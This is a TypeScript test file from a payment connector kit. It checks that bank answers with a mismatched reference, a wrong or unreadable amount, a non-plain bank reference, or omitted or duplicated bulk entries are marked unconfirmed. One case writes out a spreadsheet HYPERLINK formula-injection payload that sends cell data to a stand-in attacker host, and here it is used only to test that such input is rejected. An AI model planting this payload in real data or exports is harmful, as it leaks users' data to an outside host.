// The connector kit's cases for answers a bank gets wrong: the adapter, behind the answer checks every
// rail runs behind in the service (rails/answer-check.ts), must hand the checks what the bank said —
// its reference, its amount, its bank reference, verbatim — so that an answer about another transfer,
// an amount other than ours or one we cannot read, a bank reference that is not plain, or a bulk
// answer that leaves a reference out or gives it twice is never believed: it is `unconfirmed`, with
// the doubt that opens its anomaly.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { answerCheckedRail } from '../../../src/rails/answer-check.ts';
import type { RailLookup } from '../../../src/rails/rail.ts';
import type { BankLie, ConnectorUnderTest } from './bank-control.ts';
import { arranged, bounded, KIT_EVENTUALLY_MS, KitSkip, shown, submitted } from './checks.ts';

type Lying = ConnectorUnderTest & { bank: { lie: NonNullable<ConnectorUnderTest['bank']['lie']> } };

function lying(cut: ConnectorUnderTest): Lying {
  if (!cut.bank.lie)
    throw new KitSkip('the bank behind this adapter answers from our own records: it cannot be made to lie');
  return cut as Lying;
}

/** The cut with its adapter behind the answer checks, as the service runs it. */
const checkedCut = (cut: ConnectorUnderTest): ConnectorUnderTest => ({
  ...cut,
  adapter: answerCheckedRail(cut.adapter),
});

function assertDoubted(answer: RailLookup, kind: string, what: string): void {
  assert.equal(
    answer.status,
    'unconfirmed',
    `${what}: an answer that fails the checks is not believed: ${shown(answer)}`,
  );
  if (answer.status === 'unconfirmed')
    assert.equal(answer.doubt?.kind, kind, `${what}: the doubt names why: ${shown(answer)}`);
}

const lookedUpChecked = (cut: ConnectorUnderTest, reference: string) =>
  bounded(answerCheckedRail(cut.adapter).lookup(reference, cut.mode), KIT_EVENTUALLY_MS, `lookup of ${reference}`);

/** A lie armed before the send: the send's answer and every later lookup carry it. */
async function sentWithLie(cut: Lying, lie: BankLie): Promise<{ reference: string; answer: RailLookup }> {
  const transfer = await arranged(cut, { kind: 'settle' });
  await cut.bank.lie(transfer.reference, lie);
  return { reference: transfer.reference, answer: await submitted(checkedCut(cut), transfer) };
}

async function answerAboutAnotherReference(cut: ConnectorUnderTest): Promise<void> {
  const { reference, answer } = await sentWithLie(lying(cut), { with: { reference: randomUUID() } });
  assertDoubted(answer, 'reference_mismatch', 'a send answered about another reference');
  assertDoubted(
    await lookedUpChecked(cut, reference),
    'reference_mismatch',
    'a lookup answered about another reference',
  );
}

async function amountOtherThanOurs(cut: ConnectorUnderTest): Promise<void> {
  const { reference, answer } = await sentWithLie(lying(cut), { with: { amountMinor: '125001' } });
  assertDoubted(answer, 'amount_mismatch', 'a send answered with an amount other than the one sent');
  // A lookup does not know our amount: it gives the bank's, which the outcome decision compares.
  const looked = await lookedUpChecked(cut, reference);
  assert.ok(looked.status !== 'unconfirmed' && looked.status !== 'not_found', `a lookup: ${shown(looked)}`);
  assert.equal(
    'amountMinor' in looked ? looked.amountMinor : undefined,
    125_001n,
    `a lookup hands on the amount the bank gives, to be compared with ours: ${shown(looked)}`,
  );
}

async function unreadableAmount(cut: ConnectorUnderTest): Promise<void> {
  for (const written of [125_000, '1250.00', '', '-125000', '1e5']) {
    const { reference, answer } = await sentWithLie(lying(cut), { with: { amountMinor: written } });
    assertDoubted(answer, 'unreadable_answer', `a send answered with the amount ${shown(written)}`);
    assertDoubted(
      await lookedUpChecked(cut, reference),
      'unreadable_answer',
      `a lookup answered with the amount ${shown(written)}`,
    );
  }
}

async function bankReferenceNotPlain(cut: ConnectorUnderTest): Promise<void> {
  const liar = lying(cut);
  const transfer = await arranged(liar, { kind: 'settle' });
  await liar.bank.lie(transfer.reference, {
    with: { bankReference: '=HYPERLINK("http://attacker.invalid/?"&A2,"x")' },
  });
  assertDoubted(
    await submitted(checkedCut(liar), transfer),
    'unreadable_answer',
    'a send answered with a bank reference that is not plain',
  );
  await liar.bank.decide?.(transfer.reference);
  assertDoubted(
    await lookedUpChecked(liar, transfer.reference),
    'unreadable_answer',
    'a lookup answered with a bank reference that is not plain',
  );
}

async function bulkLeavesOutOrRepeats(cut: ConnectorUnderTest): Promise<void> {
  const liar = lying(cut);
  if (!liar.adapter.lookupMany) throw new KitSkip('this adapter has no bulk status');
  const left = await arranged(liar, { kind: 'settle' });
  const twice = await arranged(liar, { kind: 'settle' });
  const plain = await arranged(liar, { kind: 'settle' });
  for (const t of [left, twice, plain]) await submitted(liar, t);
  await liar.bank.lie(left.reference, { bulk: 'omit' });
  await liar.bank.lie(twice.reference, { bulk: 'duplicate' });
  const answers = await bounded(
    answerCheckedRail(liar.adapter).lookupMany!([left.reference, twice.reference, plain.reference], liar.mode),
    KIT_EVENTUALLY_MS,
    'lookupMany',
  );
  assert.equal(answers.length, 3, `one answer per reference, in order: ${shown(answers)}`);
  assert.equal(
    answers[0]!.status,
    'unconfirmed',
    `a reference the bulk answer leaves out is unconfirmed: ${shown(answers[0])}`,
  );
  assert.equal(
    answers[1]!.status,
    'unconfirmed',
    `a reference the bulk answer gives twice is unconfirmed: ${shown(answers[1])}`,
  );
  assert.notEqual(
    answers[2]!.status,
    'unconfirmed',
    `the other references are answered as usual: ${shown(answers[2])}`,
  );
}

/** The answer-check cases, by title, for the kit's suite. */
export const ANSWER_CHECK_CASES = [
  ['an answer about another reference is not believed (reference_mismatch)', answerAboutAnotherReference],
  ['an amount other than ours is not believed in a send, and handed on from a lookup', amountOtherThanOurs],
  ['an amount that is not a decimal string of minor units is unreadable, never ignored', unreadableAmount],
  ['a bank reference that is not plain is unreadable', bankReferenceNotPlain],
  ["a bulk answer's missing or repeated reference is unconfirmed", bulkLeavesOutOrRepeats],
] as const;
